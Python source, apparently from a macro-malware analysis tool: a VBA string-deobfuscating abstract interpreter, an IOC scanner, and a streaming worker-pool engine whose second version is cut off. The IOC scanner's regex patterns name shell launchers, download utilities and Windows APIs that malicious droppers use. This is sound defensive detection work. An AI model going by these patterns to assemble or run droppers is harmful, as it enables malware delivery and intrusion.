    def _exec_exit(self, statement: ast.ExitStmt, env: dict[str, object]) -> None:
        raise _ExitSignal(statement.kind)

    def _exec_call(self, statement: ast.CallStmt, env: dict[str, object]) -> None:
        self._eval(statement.call, env)

    def _exec_noop(self, statement: ast.NoOpStmt, env: dict[str, object]) -> None:
        return

    _DISPATCH = {
        ast.DimStmt: _exec_dim,
        ast.ConstStmt: _exec_const,
        ast.Assign: _exec_assign,
        ast.IfStmt: _exec_if,
        ast.ForStmt: _exec_for,
        ast.ForEachStmt: _exec_for_each,
        ast.DoLoopStmt: _exec_do,
        ast.WithStmt: _exec_with,
        ast.ExitStmt: _exec_exit,
        ast.CallStmt: _exec_call,
        ast.NoOpStmt: _exec_noop,
    }

    # ------------------------------------------------------------------
    # Name binding

    def _store(self, name: str, value: object, env: dict[str, object]) -> None:
        key = name.lower()
        if key in env:
            env[key] = value
        elif key in self._globals:
            self._globals[key] = value
        else:
            env[key] = value

    def _load(self, name: str, env: dict[str, object]) -> object:
        key = name.lower()
        if key in env:
            return env[key]
        if key in self._globals:
            return self._globals[key]
        return _MISSING

    # ------------------------------------------------------------------
    # Expression folding

    def _truthy(self, value: object) -> bool | None:
        """Three-valued truth: None means ⊤ (either branch possible)."""
        if value is TOP or isinstance(value, list):
            return None
        try:
            return Interpreter._truthy(value)
        except VBARuntimeError:
            return None

    def _eval(self, expression: ast.Expression, env: dict[str, object]) -> object:
        self._tick()
        if isinstance(expression, ast.Literal):
            return expression.value
        if isinstance(expression, ast.Name):
            return self._eval_name(expression, env)
        if isinstance(expression, ast.Call):
            return self._eval_call(expression, env)
        if isinstance(expression, ast.MemberAccess):
            if expression.args:
                for arg in expression.args:
                    self._eval(arg, env)
            return TOP  # host member access is always unknown statically
        if isinstance(expression, ast.BinOp):
            return self._eval_binop(expression, env)
        if isinstance(expression, ast.UnaryOp):
            operand = self._eval(expression.operand, env)
            if operand is TOP:
                return TOP
            try:
                if expression.op == "-":
                    return -Interpreter._as_number(operand, expression.line)
                truth = self._truthy(operand)
                return TOP if truth is None else not truth
            except VBARuntimeError:
                return TOP
        return TOP

    def _eval_name(self, expression: ast.Name, env: dict[str, object]) -> object:
        bound = self._load(expression.name, env)
        if bound is not _MISSING:
            return bound
        key = expression.name.lower()
        procedure = self.module.procedures.get(key)
        if procedure is not None:
            return self._call_procedure(procedure, [])
        builtin = _BUILTINS.get(key)
        if builtin is not None:
            return self._fold_builtin(key, builtin, [], expression.line)
        return TOP  # unknown name: a host global or undeclared variable

    def _eval_call(self, expression: ast.Call, env: dict[str, object]) -> object:
        key = expression.name.lower()
        bound = self._load(expression.name, env)
        if isinstance(bound, list):
            if len(expression.args) != 1:
                return TOP
            index = self._eval(expression.args[0], env)
            if (
                isinstance(index, bool)
                or not isinstance(index, (int, float))
                or not 0 <= int(index) < len(bound)
            ):
                return TOP
            return bound[int(index)]
        if bound is TOP:
            # Could be an array we lost track of — evaluate args for their
            # side budget and give up on the value.
            for arg in expression.args:
                self._eval(arg, env)
            return TOP
        procedure = self.module.procedures.get(key)
        if procedure is not None:
            args = [self._eval(arg, env) for arg in expression.args]
            return self._call_procedure(procedure, args)
        builtin = _BUILTINS.get(key)
        if builtin is not None:
            args = [self._eval(arg, env) for arg in expression.args]
            value = self._fold_builtin(key, builtin, args, expression.line)
            self._record(value, expression.line, key)
            return value
        for arg in expression.args:
            self._eval(arg, env)
        return TOP  # unknown function: host API

    def _fold_builtin(self, key: str, builtin, args: list, line: int) -> object:
        if not all(is_concrete(arg) for arg in args):
            return TOP
        if key in _SIZE_PRODUCING and args:
            count = args[0]
            if not isinstance(count, (int, float)) or not (
                0 <= count <= self.budget.max_string_length
            ):
                self._note_exhausted("string_length")
                return TOP
        try:
            value = builtin(Interpreter, args, line)
        except (VBARuntimeError, ValueError, TypeError, OverflowError):
            return TOP
        if isinstance(value, str) and len(value) > self.budget.max_string_length:
            self._note_exhausted("string_length")
            return TOP
        return value

    def _eval_binop(self, expression: ast.BinOp, env: dict[str, object]) -> object:
        # Flatten the left spine iteratively: the parser builds deep
        # left-associative chains (10k-term concats) that would blow
        # Python's recursion limit if folded recursively.
        spine: list[ast.BinOp] = [expression]
        node: ast.Expression = expression.left
        while isinstance(node, ast.BinOp):
            spine.append(node)
            node = node.left
        value = self._eval(node, env)
        for op_node in reversed(spine):
            self._tick()
            right = self._eval(op_node.right, env)
            value = self._fold_binop(op_node.op, value, right, op_node.line)
            self._record(value, op_node.line, op_node.op)
        return value

    def _fold_binop(self, op: str, left: object, right: object, line: int) -> object:
        if left is TOP or right is TOP:
            return TOP
        if isinstance(left, list) or isinstance(right, list):
            return TOP
        try:
            return self._fold_binop_concrete(op, left, right, line)
        except (VBARuntimeError, ValueError, TypeError, OverflowError):
            return TOP

    def _fold_binop_concrete(
        self, op: str, left: object, right: object, line: int
    ) -> object:
        as_number = Interpreter._as_number
        as_int = Interpreter._as_int
        if op == "&":
            text = _to_vba_string(left) + _to_vba_string(right)
            if len(text) > self.budget.max_string_length:
                self._note_exhausted("string_length")
                return TOP
            return text
        if op == "+":
            if isinstance(left, str) and isinstance(right, str):
                if len(left) + len(right) > self.budget.max_string_length:
                    self._note_exhausted("string_length")
                    return TOP
                return left + right
            return as_number(left, line) + as_number(right, line)
        if op == "-":
            return as_number(left, line) - as_number(right, line)
        if op == "*":
            return as_number(left, line) * as_number(right, line)
        if op == "/":
            divisor = as_number(right, line)
            if divisor == 0:
                return TOP
            return as_number(left, line) / divisor
        if op == "\\":
            divisor = as_int(right, line)
            if divisor == 0:
                return TOP
            dividend = as_int(left, line)
            quotient = abs(dividend) // abs(divisor)
            return quotient if (dividend >= 0) == (divisor >= 0) else -quotient
        if op == "mod":
            divisor = as_int(right, line)
            if divisor == 0:
                return TOP
            dividend = as_int(left, line)
            remainder = abs(dividend) % abs(divisor)
            return remainder if dividend >= 0 else -remainder
        if op == "^":
            base = as_number(left, line)
            exponent = as_number(right, line)
            # Unbudgeted exponentiation can materialize million-digit
            # integers; anything past these bounds widens.
            if abs(exponent) > 512 or (abs(base) > 1 and abs(exponent) > 64):
                self._note_exhausted("number_size")
                return TOP
            return base**exponent
        if op in ("=", "<>", "<", ">", "<=", ">="):
            return _compare(op, left, right, line)
        if op == "and":
            a, b = self._truthy(left), self._truthy(right)
            return TOP if a is None or b is None else (a and b)
        if op == "or":
            a, b = self._truthy(left), self._truthy(right)
            return TOP if a is None or b is None else (a or b)
        if op == "xor":
            if isinstance(left, bool) or isinstance(right, bool):
                a, b = self._truthy(left), self._truthy(right)
                return TOP if a is None or b is None else (a != b)
            return as_int(left, line) ^ as_int(right, line)
        return TOP


def _maximal_strings(records: list[RecoveredString]) -> list[RecoveredString]:
    """Keep only maximal recovered values, in recovery order.

    Folding a concat chain records every intermediate prefix; a value that
    appears inside a longer recovered value is such an intermediate, not an
    independent finding.  Skipped above 2 MB of total recovered text, where
    the quadratic substring sweep would cost more than the noise.
    """
    if sum(len(record.value) for record in records) > 2_000_000:
        return records
    by_length = sorted(records, key=lambda record: len(record.value), reverse=True)
    kept: list[str] = []
    for record in by_length:
        if not any(record.value in other for other in kept):
            kept.append(record.value)
    keep = set(kept)
    return [record for record in records if record.value in keep]


# ----------------------------------------------------------------------
# Public entry point


def recover_strings(
    source: str,
    budget: SABudget | None = None,
    metrics=NULL_REGISTRY,
    tokens=None,
) -> StringRecovery:
    """Statically recover hidden strings from one macro's source.

    Total on every input: parse failures, budget exhaustion and internal
    recursion limits all degrade into the returned
    :class:`~repro.sa.records.StringRecovery` rather than raising.

    ``tokens`` optionally carries an already-lexed token stream for
    ``source`` (the engine's analyze stage keeps one), skipping the
    re-tokenization that otherwise dominates the pass.
    """
    budget = budget or DEFAULT_SA_BUDGET
    try:
        module = parse_module(source, tolerant=True, tokens=tokens)
    except (VBAParseError, RecursionError):
        metrics.counter("sa.parse_failed").inc()
        return StringRecovery(parse_failed=True)
    interpreter = AbstractInterpreter(module, budget)
    interpreter.run()
    recovery = interpreter.result()
    metrics.counter("sa.analyzed").inc()
    if recovery.exhausted:
        metrics.counter("sa.budget_exhausted").inc()
        metrics.counter(f"sa.budget_exhausted.{recovery.exhausted_reason}").inc()
    if recovery.strings:
        metrics.counter("sa.strings_recovered").inc(len(recovery.strings))
    return recovery
