"""IOC scanning over recovered strings.

Obfuscated droppers hide exactly the strings defenders grep for — URLs,
shell invocations, payload filenames, auto-execution entry points.  Once
:mod:`repro.sa` folds those strings back into the clear, this module
classifies them so the lint rules and the R feature set can count them.
"""

from __future__ import annotations

import re

#: IOC kind → compiled pattern, checked against each recovered string.
IOC_PATTERNS: dict[str, re.Pattern[str]] = {
    "url": re.compile(r"\b(?:https?|hxxps?|ftp)://[^\s\"']{4,}", re.IGNORECASE),
    "unc_path": re.compile(r"\\\\[a-z0-9_.$-]+\\[^\s\"']+", re.IGNORECASE),
    "ip": re.compile(
        r"\b(?:(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.){3}"
        r"(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\b"
    ),
    "exe": re.compile(
        r"\b[\w.%~$-]+\.(?:exe|dll|scr|ps1|vbs|vbe|js|jse|bat|cmd|hta|jar|lnk)\b",
        re.IGNORECASE,
    ),
    "shell": re.compile(
        r"\b(?:powershell|cmd(?:\.exe)?\s*/c|wscript|cscript|mshta|rundll32"
        r"|regsvr32|certutil|bitsadmin)\b",
        re.IGNORECASE,
    ),
    "autoexec": re.compile(
        r"\b(?:auto_?open|auto_?close|auto_?exec|document_open|document_close"
        r"|workbook_open|workbook_close)\b",
        re.IGNORECASE,
    ),
    "api": re.compile(
        r"\b(?:createobject|shellexecute|getobject|urldownloadtofile"
        r"|xmlhttp|adodb\.stream|wscript\.shell|scripting\.filesystemobject"
        r"|virtualalloc|createthread)\b",
        re.IGNORECASE,
    ),
}


def find_iocs(text: str) -> list[tuple[str, str]]:
    """Every (kind, matched text) IOC in one string, in pattern order."""
    hits: list[tuple[str, str]] = []
    for kind, pattern in IOC_PATTERNS.items():
        for match in pattern.finditer(text):
            hits.append((kind, match.group(0)))
    return hits


def scan_values(values: list[str]) -> list[tuple[str, str, str]]:
    """Scan many recovered values; yields (kind, match, source value)."""
    hits: list[tuple[str, str, str]] = []
    for value in values:
        for kind, match in find_iocs(value):
            hits.append((kind, match, value))
    return hits


def count_iocs(values: list[str]) -> int:
    """Total IOC matches across all recovered values."""
    return len(scan_values(values))


def ioc_kinds(values: list[str]) -> tuple[str, ...]:
    """Distinct IOC kinds present, in IOC_PATTERNS order."""
    present = {kind for kind, _match, _value in scan_values(values)}
    return tuple(kind for kind in IOC_PATTERNS if kind in present)
