"""The streaming warm-pool engine: persistent workers, per-task dispatch,
backpressure.

``run_batch(jobs=N)`` used to build a fresh ``ProcessPoolExecutor`` per
call and schedule work in barrier rounds: every call re-paid worker spawn
and import cost, and one slow document stalled its whole round.  A
:class:`StreamingPool` replaces both decisions for gateway-scale traffic:

* **persistent warm workers** — each worker is spawned once per pool
  lifetime, unpickles the engine exactly once in its initializer (which
  pre-imports numpy and the analysis stack and pre-builds the stage
  list), and then serves tasks for as long as the pool lives.  Repeated
  ``run_batch`` calls on the same engine reuse the same warm pool;
* **per-task dispatch** — documents are submitted one at a time as
  worker slots free up, and results are yielded as they complete.  There
  are no barrier rounds: a pathological document delays only the worker
  holding it;
* **backpressure** — the pool admits at most ``window`` documents beyond
  what the consumer has taken (in flight + awaiting dispatch + completed
  but unyielded), pulling from the input iterator lazily.  A 1M-document
  feed runs in ``O(window)`` memory;
* **an ordering contract** — ``ordered=True`` yields results in input
  order through a reorder buffer that is *inside* the window accounting
  (so a slow head-of-line document cannot balloon memory either);
  ``ordered=False`` yields in completion order for maximum throughput;
* **per-task blame** — every worker slot is its own single-process
  executor with exactly one task in flight, so a dead worker indicts
  exactly the task it was holding.  The bisection rounds of the old
  round-based recovery disappear: the blamed task is retried under the
  engine's :class:`~repro.resilience.recovery.RetryPolicy` (capped
  exponential backoff) and quarantined when retries are exhausted, while
  only the dead slot is rebuilt — surviving workers stay warm.

Worker telemetry folds back **incrementally**: every
``telemetry_every``-th task a worker attaches a registry snapshot to its
result and resets, and a final flush at end of stream collects the
remainder — so a long-lived stream's parent registry trails the workers
by a bounded interval instead of an entire batch.

Metrics: ``stream.in_flight`` / ``stream.queue_depth`` gauges track peak
window occupancy and reorder-buffer depth, ``stream.tasks`` /
``stream.worker_restarts`` count work and worker deaths,
``stream.tasks_per_sec`` records the last stream's throughput, and the
``resilience.pool_failures`` / ``resilience.retries`` /
``resilience.quarantined`` counters keep their PR-4 meanings (with
``resilience.bisections`` now structurally zero).
"""

from __future__ import annotations

import multiprocessing
import os
import pickle
import time
import weakref
from collections import deque
from collections.abc import Iterable, Iterator
from concurrent.futures import FIRST_COMPLETED, Future, ProcessPoolExecutor, wait
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass

from repro.engine.records import DocumentRecord
from repro.resilience.quarantine import quarantine_record
from repro.resilience.recovery import DEFAULT_RETRY, RetryPolicy

#: Tasks a worker completes between incremental telemetry flushes.
DEFAULT_TELEMETRY_EVERY = 16

#: Default backpressure window per worker when none is given.
_WINDOW_PER_JOB = 4


@dataclass(slots=True)
class StreamResult:
    """One completed stream entry: the record plus cache bookkeeping hints."""

    key: object
    record: DocumentRecord
    #: the record was computed by a worker this stream (cache-worthy)
    computed: bool
    #: the record is a copy of an identical in-flight document (a cache hit
    #: coalesced inside the window rather than served from the parent cache)
    coalesced: bool


class _Task:
    """One dispatched document plus its retry state and coalesced twins."""

    __slots__ = ("key", "source_id", "data", "digest", "attempt", "followers")

    def __init__(self, key, source_id: str, data: bytes, digest: str) -> None:
        self.key = key
        self.source_id = source_id
        self.data = data
        self.digest = digest
        self.attempt = 0
        self.followers: list[tuple[object, str]] = []


class _Slot:
    """One worker seat: a single-process executor we can rebuild alone."""

    __slots__ = ("index", "executor", "pid", "unflushed")

    def __init__(self, index: int, executor: ProcessPoolExecutor) -> None:
        self.index = index
        self.executor = executor
        self.pid: int | None = None
        #: tasks completed since the worker last shipped telemetry
        self.unflushed = 0


class StreamingPool:
    """Warm workers that survive across calls, fed one task at a time.

    The pool holds only a *weak* reference to its engine (the engine owns
    the pool; a strong back-reference would keep both alive forever) plus
    a pickled snapshot taken at construction for worker initializers —
    stage configuration is therefore frozen at pool spawn.
    """

    def __init__(
        self,
        engine,
        jobs: int,
        *,
        window: int | None = None,
        retry: RetryPolicy | None = None,
        mp_context: str | None = None,
        telemetry_every: int = DEFAULT_TELEMETRY_EVERY,
        warm_start: bool = True,
    ) -> None:
        self.jobs = max(1, int(jobs))
        self.window = (
            int(window)
            if window is not None and window > 0
            else max(8, _WINDOW_PER_JOB * self.jobs)
        )
        if self.window < self.jobs:
            # A window smaller than the pool would idle paid-for workers.
            self.window = self.jobs
        self.retry = retry if retry is not None else DEFAULT_RETRY
        self.telemetry_every = max(0, int(telemetry_every))
        self._engine_ref = weakref.ref(engine)
        self._metrics = engine.metrics
        self._engine_pickle = pickle.dumps(engine)
        self._context = (
            multiprocessing.get_context(mp_context) if mp_context else None
        )
        self._closed = False
        self.worker_restarts = 0
        self.peak_in_flight = 0  # peak window occupancy (admitted - yielded)
        self.peak_dispatched = 0  # peak tasks simultaneously on workers
        self.tasks_completed = 0
        self._slots = [self._new_slot(index) for index in range(self.jobs)]
        if warm_start:
            self.warm_up(wait_ready=False)

    # -- worker lifecycle ----------------------------------------------

    def _new_slot(self, index: int) -> _Slot:
        executor = ProcessPoolExecutor(
            max_workers=1,
            mp_context=self._context,
            initializer=_stream_worker_init,
            initargs=(
                self._engine_pickle,
                self.telemetry_every if self._metrics.enabled else 0,
            ),
        )
        return _Slot(index, executor)

    def warm_up(self, *, wait_ready: bool = True) -> list[int | None]:
        """Force worker processes up (and their imports paid) *now*.

        With ``wait_ready`` the call blocks until every worker has run its
        initializer and returns their pids; without it the spawns proceed
        in the background while the caller does other work.
        """
        futures = []
        for slot in self._slots:
            try:
                futures.append((slot, slot.executor.submit(_stream_warm)))
            except BrokenProcessPool:
                self._restart_slot(slot)
        if not wait_ready:
            return [slot.pid for slot in self._slots]
        for slot, future in futures:
            try:
                slot.pid = future.result()
            except BrokenProcessPool:
                self._restart_slot(slot)
        return [slot.pid for slot in self._slots]

    def _restart_slot(self, slot: _Slot) -> None:
        """Replace one dead worker; every other slot stays warm."""
        metrics = self._metrics
        span = None
        if metrics.enabled:
            metrics.counter("resilience.pool_failures").inc()
            metrics.counter("stream.worker_restarts").inc()
            span = metrics.span("pool.recover").start()
        slot.executor.shutdown(wait=False, cancel_futures=True)
        slot.executor = self._new_slot(slot.index).executor
        slot.pid = None
        slot.unflushed = 0  # whatever the dead worker held is gone
        self.worker_restarts += 1
        if span is not None:
            span.finish(outcome="error")

    def worker_pids(self) -> list[int | None]:
        """Last-known worker pid per slot (None before a slot's first task)."""
        return [slot.pid for slot in self._slots]

    def close(self) -> None:
        """Shut every worker down.  Idempotent; the pool is unusable after."""
        if self._closed:
            return
        self._closed = True
        for slot in self._slots:
            slot.executor.shutdown(wait=False, cancel_futures=True)

    def __enter__(self) -> "StreamingPool":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()

    # -- the dispatch loop ---------------------------------------------

    def stream(
        self, entries: Iterable[tuple], *, ordered: bool = False
    ) -> Iterator[StreamResult]:
        """Drive tagged entries through the warm workers.

        ``entries`` is an iterable (consumed lazily, never materialized) of

        * ``("task", key, source_id, data, digest)`` — analyze ``data`` on
          a worker.  Entries sharing a ``digest`` while one is in flight
          are *coalesced*: analyzed once, the twins yielded as copies;
        * ``("ready", key, record)`` — a pre-completed record (a parent
          cache hit, a coercion error) that only needs ordering.

        Yields one :class:`StreamResult` per entry.  With ``ordered`` the
        results come back in entry order; otherwise in completion order.
        At most ``self.window`` entries are admitted beyond what has been
        yielded, which bounds the reorder buffer and the in-flight set
        alike.
        """
        if self._closed:
            raise RuntimeError("cannot stream on a closed StreamingPool")
        engine = self._engine_ref()
        metrics = self._metrics
        source = iter(entries)
        exhausted = False
        waiting: deque[_Task] = deque()
        inflight: dict[Future, tuple[_Slot, _Task]] = {}
        idle: list[_Slot] = list(self._slots)
        primaries: dict[str, _Task] = {}  # digest -> in-flight/waiting task
        buffer: dict[object, StreamResult] = {}
        expected: deque = deque()  # admitted keys in order (ordered mode)
        admitted = 0
        yielded = 0
        completed = 0
        started_at = time.perf_counter()

        in_flight_gauge = metrics.gauge("stream.in_flight")
        depth_gauge = metrics.gauge("stream.queue_depth")

        try:
            while True:
                # 1. Admit from the feed while the window has room.
                while not exhausted and admitted - yielded < self.window:
                    try:
                        entry = next(source)
                    except StopIteration:
                        exhausted = True
                        break
                    admitted += 1
                    kind = entry[0]
                    if ordered:
                        expected.append(entry[1])
                    if kind == "ready":
                        _, key, record = entry
                        buffer[key] = StreamResult(key, record, False, False)
                        continue
                    _, key, source_id, data, digest = entry
                    primary = primaries.get(digest)
                    if primary is not None:
                        primary.followers.append((key, source_id))
                        continue
                    task = _Task(key, source_id, data, digest)
                    primaries[digest] = task
                    waiting.append(task)

                # 2. Dispatch while workers are free.
                while waiting and idle:
                    task = waiting.popleft()
                    slot = idle.pop()
                    inflight[self._submit(slot, task)] = (slot, task)

                occupancy = admitted - yielded
                if occupancy > self.peak_in_flight:
                    self.peak_in_flight = occupancy
                    in_flight_gauge.set(occupancy)
                if len(inflight) > self.peak_dispatched:
                    self.peak_dispatched = len(inflight)
                if len(buffer) > depth_gauge.value:
                    depth_gauge.set(len(buffer))

                # 3. Yield whatever the contract allows.
                progressed = False
                if ordered:
                    while expected and expected[0] in buffer:
                        yield buffer.pop(expected.popleft())
                        yielded += 1
                        progressed = True
                else:
                    while buffer:
                        key, result = next(iter(buffer.items()))
                        del buffer[key]
                        yield result
                        yielded += 1
                        progressed = True
                if progressed:
                    continue  # freed window slots: admit before blocking

                # 4. Done?
                if exhausted and not inflight and not waiting:
                    break

                # 5. Block until any worker finishes, then settle results.
                done, _ = wait(inflight, return_when=FIRST_COMPLETED)
                for future in done:
                    slot, task = inflight.pop(future)
                    try:
                        payload = future.result()
                    except BrokenProcessPool:
                        # One task per worker: the dead pool indicts
                        # exactly this task.  Rebuild only this slot.
                        self._restart_slot(slot)
                        idle.append(slot)
                        error = BrokenProcessPool(
                            "worker died mid-task; per-task dispatch "
                            "attributes the failure to this document"
                        )
                        self._settle_failure(task, error, waiting, buffer, primaries)
                    except Exception as error:
                        # Attributable failure (e.g. an unpicklable
                        # result): the worker survived, only the task pays.
                        idle.append(slot)
                        self._settle_failure(task, error, waiting, buffer, primaries)
                    else:
                        idle.append(slot)
                        record, pid, telemetry = payload
                        slot.pid = pid
                        slot.unflushed += 1
                        completed += 1
                        self.tasks_completed += 1
                        if metrics.enabled:
                            metrics.counter("stream.tasks").inc()
                        if telemetry is not None:
                            slot.unflushed = 0
                            if engine is not None:
                                engine._merge_worker_telemetry(telemetry)
                        self._settle_success(task, record, buffer, primaries)
        finally:
            if engine is not None and metrics.enabled:
                self._flush_telemetry(engine)
                elapsed = time.perf_counter() - started_at
                if completed and elapsed > 0.0:
                    metrics.gauge("stream.tasks_per_sec").set(
                        round(completed / elapsed, 3)
                    )

    def _submit(self, slot: _Slot, task: _Task) -> Future:
        """Submit one task to one slot, reviving the slot if it died idle."""
        for attempt in (0, 1):
            try:
                return slot.executor.submit(
                    _stream_task, task.key, task.source_id, task.data, task.digest
                )
            except (BrokenProcessPool, RuntimeError):
                if attempt:
                    raise
                self._restart_slot(slot)
        raise AssertionError("unreachable")

    def _settle_success(
        self,
        task: _Task,
        record: DocumentRecord,
        buffer: dict,
        primaries: dict,
    ) -> None:
        from repro.engine.core import AnalysisEngine

        primaries.pop(task.digest, None)
        buffer[task.key] = StreamResult(task.key, record, True, False)
        for key, source_id in task.followers:
            buffer[key] = StreamResult(
                key, AnalysisEngine._cached_copy(record, source_id), False, True
            )

    def _settle_failure(
        self,
        task: _Task,
        error: BaseException,
        waiting: deque,
        buffer: dict,
        primaries: dict,
    ) -> None:
        """Per-task blame: retry with capped backoff, then quarantine."""
        from repro.resilience import recovery as recovery_module

        metrics = self._metrics
        attempts = task.attempt + 1
        if attempts < self.retry.max_attempts:
            if metrics.enabled:
                metrics.counter("resilience.retries").inc()
            # Backoff before the retry; tests monkeypatch recovery._sleep.
            recovery_module._sleep(self.retry.backoff(task.attempt))
            task.attempt = attempts
            waiting.appendleft(task)  # retries outrank fresh admissions
            return
        reason = (
            f"{type(error).__name__}: {error}"
            if str(error)
            else type(error).__name__
        )
        record = quarantine_record(
            task.source_id, task.digest, reason, attempts=attempts, stage="pool"
        )
        if metrics.enabled:
            metrics.counter("resilience.quarantined").inc()
            metrics.span("quarantine", doc=task.digest).start().finish(
                outcome="error"
            )
        self._settle_success(task, record, buffer, primaries)

    def _flush_telemetry(self, engine) -> None:
        """Collect what the workers recorded since their last flush."""
        futures = []
        for slot in self._slots:
            if slot.unflushed <= 0:
                continue
            try:
                futures.append((slot, slot.executor.submit(_stream_flush)))
            except (BrokenProcessPool, RuntimeError):
                continue  # the worker (and its unsent telemetry) is gone
        for slot, future in futures:
            try:
                telemetry = future.result(timeout=60)
            except Exception:
                continue
            slot.unflushed = 0
            engine._merge_worker_telemetry(telemetry)


# ----------------------------------------------------------------------
# Worker-side entry points.  The engine is unpickled exactly once per
# worker process (pre-importing numpy and the analysis stack, pre-building
# the stage list); tasks then carry only (key, source_id, data, digest).

_WORKER_STATE: dict = {}


def _stream_worker_init(engine_pickle: bytes, telemetry_every: int) -> None:
    engine = pickle.loads(engine_pickle)
    _WORKER_STATE["engine"] = engine
    _WORKER_STATE["telemetry_every"] = telemetry_every
    _WORKER_STATE["since_flush"] = 0


def _stream_warm() -> int:
    """A no-op task that forces the worker (and its imports) up."""
    return os.getpid()


def _telemetry_snapshot(engine) -> dict:
    """The worker → parent telemetry delta; resets the worker's registry."""
    snapshot = {
        "metrics": engine.metrics.to_dict() if engine.metrics.enabled else None,
        "cache": engine.cache_info(),
    }
    engine.metrics = engine.metrics.spawn()
    engine.cache_hits = 0
    engine.cache_misses = 0
    engine.cache_evictions = 0
    return snapshot


def _stream_task(key, source_id: str, data: bytes, digest: str):
    """One document through the warm engine; telemetry rides along
    every ``telemetry_every`` tasks."""
    engine = _WORKER_STATE["engine"]
    record = engine._process(source_id, data, digest)
    telemetry = None
    every = _WORKER_STATE["telemetry_every"]
    if every:
        _WORKER_STATE["since_flush"] += 1
        if _WORKER_STATE["since_flush"] >= every:
            _WORKER_STATE["since_flush"] = 0
            telemetry = _telemetry_snapshot(engine)
    return record, os.getpid(), telemetry


def _stream_flush() -> dict:
    """Explicit end-of-stream telemetry flush."""
    _WORKER_STATE["since_flush"] = 0
    return _telemetry_snapshot(_WORKER_STATE["engine"])
