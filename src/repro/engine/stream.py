"""The streaming warm-pool engine: persistent workers, per-task dispatch,
backpressure.

``run_batch(jobs=N)`` used to build a fresh ``ProcessPoolExecutor`` per
call and schedule work in barrier rounds: every call re-paid worker spawn
and import cost, and one slow document stalled its whole round.  A
:class:`StreamingPool` replaces both decisions for gateway-scale traffic:

* **persistent warm workers** — each worker is spawned once per pool
  lifetime, unpickles the engine exactly once in its initializer (which
  pre-imports numpy and the analysis stack and pre-builds the stage
  list), and then serves tasks for as long as the pool lives.  Repeated
  ``run_batch`` calls on the same engine reuse the same warm pool;
* **per-task dispatch** — documents are submitted one at a time as
  worker slots free up, and results are yielded as they complete.  There
  are no barrier rounds: a pathological document delays only the worker
  holding it;
* **backpressure** — the pool admits at most ``window`` documents beyond
  what the consumer has taken (in flight + awaiting dispatch + completed
  but unyielded), pulling from the input iterator lazily.  A 1M-document
  feed runs in ``O(window)`` memory;
* **an ordering contract** — ``ordered=True`` yields results in input
  order through a reorder buffer that is *inside* the window accounting
  (so a slow head-of-line document cannot balloon memory either);
  ``ordered=False`` yields in completion order for maximum throughput;
* **per-task blame** — every worker slot is its own single-process
  executor with exactly one task in flight, so a dead worker indicts
  exactly the task it was holding.  The bisection rounds of the old
  round-based recovery disappear: the blamed task is retried under the
  engine's :class:`~repro.resilience.recovery.RetryPolicy` (capped
  exponential backoff) and quarantined when retries are exhausted, while
  only the dead slot is rebuilt — surviving workers stay warm.

Worker telemetry folds back **incrementally**: every
``telemetry_every``-th task a worker attaches a registry snapshot to its
result and resets, and a final flush at end of stream collects the
remainder — so a long-lived stream's parent registry trails the workers
by a bounded interval instead of an entire batch.

Each task is one document through ``engine._process``, so the
vectorized stages' micro-batch accumulators (featurize *and* classify)
flush once per streamed document: a 500-module attachment costs one
feature-matrix pass and one ``proba_from_matrix`` call inside its
worker.  Because those kernels are row-stable (:mod:`repro.ml.linalg`),
a macro scored through the stream is bit-identical to the same macro
scored serially or through the bare-source ``run_source`` path.

Large results skip the result pipe: a worker whose pickled record reaches
the engine's ``shm_threshold`` (default 64 KiB) writes the pickle into a
reused ``multiprocessing.shared_memory`` segment and returns only a tiny
descriptor (name, generation, length, digest); the parent maps the
segment, verifies the header and BLAKE2 digest, and unpickles straight
from shared memory — one copy instead of a chunked pipe write + read.
Segments are pooled per worker (a free list, reclaimed one task later,
when the parent has provably consumed the previous result) and a failed
segment allocation falls back to the ordinary pickle return.

Metrics: ``stream.in_flight`` / ``stream.queue_depth`` gauges track peak
window occupancy and reorder-buffer depth, ``stream.tasks`` /
``stream.worker_restarts`` count work and worker deaths,
``stream.tasks_per_sec`` records the last stream's throughput,
``stream.shm_results`` / ``stream.shm_bytes`` / ``stream.shm_fallback``
count shared-memory result traffic (``stream.shm_segment_bytes`` gauges
the last segment's size), and the ``resilience.pool_failures`` /
``resilience.retries`` / ``resilience.quarantined`` counters keep their
PR-4 meanings (with ``resilience.bisections`` now structurally zero).
"""

from __future__ import annotations

import asyncio
import atexit
import hashlib
import multiprocessing
import os
import pickle
import struct
import threading
import time
import weakref
from collections import deque
from collections.abc import AsyncIterator, Iterable, Iterator
from concurrent.futures import FIRST_COMPLETED, Future, ProcessPoolExecutor, wait
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass
from multiprocessing import resource_tracker, shared_memory

from repro.engine.records import DocumentRecord
from repro.resilience import recovery as _recovery
from repro.resilience.budgets import clip_budget
from repro.resilience.quarantine import quarantine_record
from repro.resilience.recovery import DEFAULT_RETRY, RetryPolicy

#: Tasks a worker completes between incremental telemetry flushes.
DEFAULT_TELEMETRY_EVERY = 16

#: Default backpressure window per worker when none is given.
_WINDOW_PER_JOB = 4

#: Pickled results at or above this many bytes ride shared memory when the
#: engine doesn't set its own ``shm_threshold``.
DEFAULT_SHM_THRESHOLD = 64 * 1024

#: Segment layout: ``<generation u64><payload length u64><digest><payload>``.
_SHM_HEADER = struct.Struct("<QQ")
_SHM_DIGEST_SIZE = 16
_SHM_PAYLOAD_OFFSET = _SHM_HEADER.size + _SHM_DIGEST_SIZE
#: Fresh segments round up to this size so steady-state traffic reuses a
#: handful of segments instead of allocating per result.
_SHM_MIN_SEGMENT = 256 * 1024
#: Idle segments a worker keeps pooled before unlinking the excess.
_SHM_MAX_FREE = 4


def _shm_unregister(segment: shared_memory.SharedMemory) -> None:
    """Keep the resource tracker out of segment lifetime.

    Ownership is explicit here — workers unlink their own segments (atexit
    at the latest) and the parent unlinks anything a dead worker left
    behind — so the per-process tracker would only add spurious
    leaked-object warnings and premature unlinks on worker death.
    """
    try:
        resource_tracker.unregister(segment._name, "shared_memory")
    except Exception:  # tracking is best-effort bookkeeping, never fatal
        pass


@dataclass(frozen=True, slots=True)
class _ShmResult:
    """Descriptor for a record parked in a shared-memory segment."""

    name: str
    generation: int
    length: int
    digest: bytes


@dataclass(slots=True)
class StreamResult:
